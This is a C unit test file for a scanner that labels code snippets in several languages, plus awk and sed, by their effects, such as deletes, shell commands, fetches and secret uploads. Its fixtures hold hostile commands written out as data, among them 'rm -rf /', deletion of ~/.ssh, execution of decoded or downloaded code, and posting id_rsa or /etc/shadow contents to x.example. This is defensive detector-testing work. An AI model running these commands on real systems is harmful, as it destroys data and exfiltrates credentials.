#include "config.h"
#include "tests/fake_run.h"

#include <check.h>
#include <stdlib.h>
#include <string.h>

static void set_up(void)
{
	ck_assert_int_eq(arena_init(&fake_arena, 65536, 0), 0);
	fake_begin();
}

static void tear_down(void)
{
	arena_deinit(&fake_arena);
}

static const struct { enum stream_role role; const char *code, *log; } cases[] = {
#define PY(code, log) { STREAM_CODE_PYTHON, code, log },
#define JS(code, log) { STREAM_CODE_JS, code, log },
#define PL(code, log) { STREAM_CODE_PERL, code, log },
#define RB(code, log) { STREAM_CODE_RUBY, code, log },
#define PHP(code, log) { STREAM_CODE_PHP, code, log },
#define LUA(code, log) { STREAM_CODE_LUA, code, log },
#define SQL(code, log) { STREAM_CODE_SQL, code, log },
	PY("print(1)", "")
	PY("print('rm -rf /')", "")
	PY("print(\"os.remove('/x')\")", "")
	PY("x = '''os.system('rm -rf /')'''", "")
	PY("# os.system('rm -rf /')\nprint(2)", "")
	PY("import os\nos.remove('/x')", "delete /x")
	PY("import os; os.remove('/' + 'x')", "delete /x")
	PY("import os as o; o.unlink('x')", "delete x")
	PY("from os import remove as r, path\nr('x')", "delete x")
	PY("from os import (\n  remove,\n  rmdir)\nremove('x')\nrmdir('y')", "delete x; delete y")
	PY("import shutil\nshutil.rmtree(os.path.join('/home', 'dev', \"x\"))", "delete-tree /home/dev/x")
	PY("shutil.rmtree(os.path.expanduser('~/.ssh'))", "delete-tree /home/dev/.ssh")
	PY("p = '/etc'\nshutil.rmtree(p)", "delete-tree /etc")
	PY("shutil.rmtree(p)", "delete-tree $")
	PY("shutil.rmtree(f'/srv/{name}/x')", "delete-tree /srv/$/x")
	PY("shutil.rmtree('/srv/%s' % name)", "delete-tree /srv/$")
	PY("shutil.rmtree('/srv/{}'.format(name))", "delete-tree /srv/$")
	PY("shutil.rmtree(sys.argv[1])", "delete-tree $")
	PY("shutil.move('a', 'b')", "move a; write b")
	PY("from pathlib import Path\nPath('x').unlink()", "delete x")
	PY("(Path.home() / '.bashrc').write_text('x')", "write /home/dev/.bashrc")
	PY("p = Path('/etc') / 'x'\np.unlink(missing_ok=True)", "delete /etc/x")
	PY("open('a')", "read a")
	PY("open('a', 'w').write('x')", "write a")
	PY("with open('a', mode='a') as f:\n    f.write('x')", "append a")
	PY("open('a', 'rb').read()", "read a")
	PY("os.system('rm -rf /')", "sh rm -rf /")
	PY("os.system('rm -rf ' + d)", "sh rm -rf $")
	PY("subprocess.run(['rm', '-rf', \"it's\"])", "sh 'rm' '-rf' 'it'\\''s'")
	PY("import subprocess as sp\nsp.check_output('ls -l', shell=True)", "sh ls -l")
	PY("subprocess.run(args=['ls', d])", "sh 'ls' '$'")
	PY("cmd = ['rm']\ncmd = cmd + ['-rf', '/']\nsubprocess.call(cmd)", "sh 'rm' '-rf' '/'")
	PY("os.execvp('rm', ['rm', 'x'])", "sh 'rm' 'x'")
	PY("__import__('os').system('id')", "sh id")
	PY("getattr(__import__('os'), 'sys' + 'tem')('id')", "sh id")
	PY("f = os.system\nf('id')", "sh id")
	PY("exec('import os')", "code import os")
	PY("exec(base64.b64decode('aWQ='))", "decoded id")
	PY("exec(bytes.fromhex('6964').decode())", "decoded id")
	PY("exec(zlib.decompress(x))", "decoded $")
	PY("exec(requests.get('https://x.example/a').text)", "fetch https://x.example/a; downloaded $")
	PY("import urllib.request as u\nexec(u.urlopen('https://x.example').read())", "fetch https://x.example; downloaded $")
	PY("re.compile('eval(x)')", "")
	PY("requests.post('https://x.example', data=open('/home/dev/.ssh/id_rsa').read())", "read /home/dev/.ssh/id_rsa; upload-secret https://x.example")
	PY("print(f\"{os.system('id')}\")", "sh id")
	PY("os.system('rm " "\\x2drf /')", "sh rm -rf /")
	PY("os.system(r'a\\nb')", "sh a\\nb")
	PY("os.system('a' 'b')", "sh ab")
	JS("console.log('rm -rf /')", "")
	JS("// fs.rmSync('/')\n/* fs.rmSync('/') */", "")
	JS("const fs = require('fs'); fs.rmSync('/x', {recursive: true})", "delete-tree /x")
	JS("require('fs').unlinkSync('x')", "delete x")
	JS("import f from 'node:fs/promises'; await f.rm('x')", "delete-tree x")
	JS("import * as f from 'fs'\nf.writeFileSync('x', 'y')", "write x")
	JS("import {rmSync as r, readFileSync} from 'fs'; r('x'); readFileSync('y')", "delete-tree x; read y")
	JS("const {execSync: e, spawn} = require('child_process'); e('id'); spawn('rm', ['-rf', '/'])", "sh id; sh 'rm' '-rf' '/'")
	JS("require('child_process').exec(`rm -rf ${x}`)", "sh rm -rf $")
	JS("const d = '/etc'; require('child_process').exec(`rm -rf ${d}/x`)", "sh rm -rf /etc/x")
	JS("`${require('child_process').execSync('id')}`", "sh id")
	JS("require('fs').rmSync(require('path').join(require('os').homedir(), '.ssh'))", "delete-tree /home/dev/.ssh")
	JS("x = a / b; s.replace(/'/g, ''); eval('1')", "code 1")
	JS("/x/.exec('y')", "")
	JS("eval(Buffer.from('MQ==', 'base64').toString())", "decoded 1")
	JS("fetch('https://x.example/a.js').then(r => r.text())", "fetch https://x.example/a.js")
	JS("new Function('return 1')()", "code return 1")
	PL("print 'rm -rf /'", "")
	PL("unlink 'a', 'b';", "delete a; delete b")
	PL("unlink(\"a\") if $x;", "delete a")
	PL("system('rm -rf /')", "sh rm -rf /")
	PL("system 'rm', '-rf', $d;", "sh 'rm' '-rf' '$'")
	PL("my $d = '/etc'; system \"rm -rf $d/x\"", "sh rm -rf /etc/x")
	PL("my $x = `id`; print qx{ls -l}", "sh id; sh ls -l")
	PL("open(F, '>x'); open(my $g, '<', 'y'); open(H, 'id|')", "write x; read y; sh id")
	PL("s/system('x')/y/; print q(unlink 'x');", "")
	PL("use File::Path; rmtree('/x'); File::Path::remove_tree(\"y\")", "delete-tree /x; delete-tree y")
	PL("eval pack('H*', '6964')", "decoded id")
	RB("puts 'rm -rf /'", "")
	RB("File.delete 'a'", "delete a")
	RB("FileUtils.rm_rf(\"#{Dir.home}/x\")", "delete-tree $/x")
	RB("require 'fileutils'; FileUtils.rm_rf('/x')", "delete-tree /x")
	RB("system 'rm', '-rf', 'x'", "sh 'rm' '-rf' 'x'")
	RB("x = `id`; %x(ls)", "sh id; sh ls")
	RB("open('|id'); open('f', 'w')", "sh id; write f")
	RB("eval(Net::HTTP.get(URI('https://x.example')))", "fetch https://x.example; downloaded $")
	PHP("<?php echo 'system(1)'; unlink('a'); ?>", "delete a")
	PHP("shell_exec(\"rm -rf $x\"); $y = `id`;", "sh rm -rf $; sh id")
	PHP("file_put_contents('a' . 'b', 'c'); eval(base64_decode('aWQ='));", "write ab; decoded id")
	PHP("file_get_contents('https://x.example')", "fetch https://x.example")
	LUA("os.execute('rm ' .. '-rf x') -- os.remove('y')", "sh rm -rf x")
	LUA("os.remove [[a]]; io.open('b', 'w'):write('c')", "delete a; write b")
	SQL("SELECT 'DROP TABLE x'; -- DROP TABLE x", "")
	SQL("drop table x", "sql.drop")
	SQL("DELETE FROM x; DELETE FROM x WHERE id = 1;", "sql.delete-all")
	SQL("update x set y = 'where'; UPDATE x SET y = 1 WHERE z", "sql.update-all")
	SQL("TRUNCATE x /* ; */; alter table x drop column y", "sql.truncate; sql.alter-drop")
	SQL("COPY x FROM PROGRAM 'id'; COPY x TO '/tmp/y'", "sql.program; sh id; write /tmp/y")
	SQL("SELECT LOAD_FILE('/etc/shadow') INTO OUTFILE 'x'", "read /etc/shadow; write x")
	SQL(".shell rm -rf x\nSELECT 1;", "sh rm -rf x")
	SQL("SELECT 'it''s'; DROP INDEX x", "sql.drop")
	{ STREAM_CODE_OTHER, "print(1)", "code.unseen" },
#undef PY
#undef JS
#undef PL
#undef RB
#undef PHP
#undef LUA
#undef SQL
};

/* The code in memory of its exact size, so that a sanitizer sees a read past the end. */
static void scan_exactly(void (*scan)(struct run *, const char *, uint32_t, struct span), const char *code, size_t len)
{
	char *copy = malloc(len ? len : 1);

	ck_assert_ptr_nonnull(copy);
	memcpy(copy, code, len);
	scan(&fake_run, copy, (uint32_t)len, (struct span){ 0, 0 });
	free(copy);
}

static enum stream_role role_now;

static void scan_role(struct run *run, const char *text, uint32_t len, struct span span)
{
	code_scan(run, role_now, text, len, span);
}

START_TEST(code_does_what_it_says)
{
	role_now = cases[_i].role;
	scan_exactly(scan_role, cases[_i].code, strlen(cases[_i].code));
	ck_assert_msg(strcmp(fake_log, cases[_i].log) == 0, "%s\n  gives: %s\n  not:   %s", cases[_i].code, fake_log, cases[_i].log);
	ck_assert(!fake_run.out->too_complex);
}
END_TEST

static const struct { const char *code, *log; } awks[] = {
	{ "{print $1}", "" },
	{ "/system(\"x\")/ {print \"system(\\\"x\\\")\"}", "" },
	{ "BEGIN{system(\"rm -rf /\")}", "sh rm -rf /" },
	{ "{system(\"rm \" $1)}", "sh rm $" },
	{ "{print $1 > \"out.txt\"}", "write out.txt" },
	{ "{print $1 > $2 \".txt\"; x = 1}", "write $.txt" },
	{ "$1 > 5 {print}", "" },
	{ "{ if ($1 > \"a\") print (1 > 2) }", "" },
	{ "{print | \"sort -u\"}", "sh sort -u" },
	{ "BEGIN{\"date\" | getline d}", "sh date" },
	{ "BEGIN{while ((getline line < \"/etc/shadow\") > 0) print line}", "read /etc/shadow" },
	{ "a || b {print}", "" },
	{ "BEGIN{s=\"/inet/tcp/0/x.example/80\"; print 1 |& \"/inet/tcp/0/x.example/80\"}", "upload x.example" },
	{ "{print > \"/dev/stderr\"}", "write /dev/stderr" },
};

START_TEST(awk_programs)
{
	scan_exactly(code_scan_awk, awks[_i].code, strlen(awks[_i].code));
	ck_assert_msg(strcmp(fake_log, awks[_i].log) == 0, "%s\n  gives: %s\n  not:   %s", awks[_i].code, fake_log, awks[_i].log);
}
END_TEST

static const struct { const char *code, *log; } seds[] = {
	{ "s/a/b/g", "" },
	{ "s/e/w/;1,$p;/e x/d", "" },
	{ "s/a/b/e", "code.dynamic" },
	{ "s|a\\|e|b|w out", "write out" },
	{ "1e rm -rf x", "sh rm -rf x" },
	{ "/x/w out\nr in", "write out; read in" },
	{ "y/abc/xyz/", "" },
	{ "a\\\ne rm\ne id", "sh id" },
	{ ":a;N;$!ba;s/\\n/ /g", "" },
	{ "/a/,/b/{s/x/y/;d}", "" },
	{ "s", "" },
	{ "s/a", "" },
	{ "/", "" },
	{ "\\", "" },
};

START_TEST(sed_scripts)
{
	scan_exactly(code_scan_sed, seds[_i].code, strlen(seds[_i].code));
	ck_assert_msg(strcmp(fake_log, seds[_i].log) == 0, "%s\n  gives: %s\n  not:   %s", seds[_i].code, fake_log, seds[_i].log);
}
END_TEST

static const enum stream_role roles[] = { STREAM_CODE_PYTHON, STREAM_CODE_JS,  STREAM_CODE_PERL, STREAM_CODE_RUBY,
	                                  STREAM_CODE_PHP,    STREAM_CODE_LUA, STREAM_CODE_SQL };

START_TEST(deep_code_is_too_complex_and_broken_code_harmless)
{
	static const char *const pieces[] = { "(", "[", "{", "f(", "\"#{", "`${", "f'{", "a.b(", "'", "\"", "x = ", "%x(", "/*", "import {", "q{" };
	static char code[60000];

	role_now = roles[_i];
	for (size_t p = 0; p < sizeof(pieces) / sizeof(pieces[0]); p++) {
		size_t n = strlen(pieces[p]), len = 0;

		for (; len + n < sizeof(code); len += n)
			memcpy(code + len, pieces[p], n);
		fake_begin();
		scan_exactly(scan_role, code, len);
		arena_reset(&fake_arena);
	}
	fake_begin();
	role_now = STREAM_CODE_PYTHON;
	memset(code, '(', sizeof(code));
	scan_exactly(scan_role, code, sizeof(code));
	ck_assert(fake_run.out->too_complex);
}
END_TEST

START_TEST(the_budget_ends_it)
{
	static char code[100000];

	memset(code, '+', sizeof(code));
	fake_run.budget = 100;
	role_now = STREAM_CODE_PYTHON;
	scan_exactly(scan_role, code, sizeof(code));
	ck_assert(fake_run.out->too_complex);
}
END_TEST

#define COUNT(array) ((int)(sizeof(array) / sizeof((array)[0])))

int main(void)
{
	Suite *suite = suite_create("code");
	TCase *tests = tcase_create("code");
	SRunner *runner = srunner_create(suite);
	int failed;

	tcase_add_checked_fixture(tests, set_up, tear_down);
	tcase_add_loop_test(tests, code_does_what_it_says, 0, COUNT(cases));
	tcase_add_loop_test(tests, awk_programs, 0, COUNT(awks));
	tcase_add_loop_test(tests, sed_scripts, 0, COUNT(seds));
	tcase_add_loop_test(tests, deep_code_is_too_complex_and_broken_code_harmless, 0, COUNT(roles));
	tcase_add_test(tests, the_budget_ends_it);
	suite_add_tcase(suite, tests);
	srunner_run_all(runner, CK_ENV);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
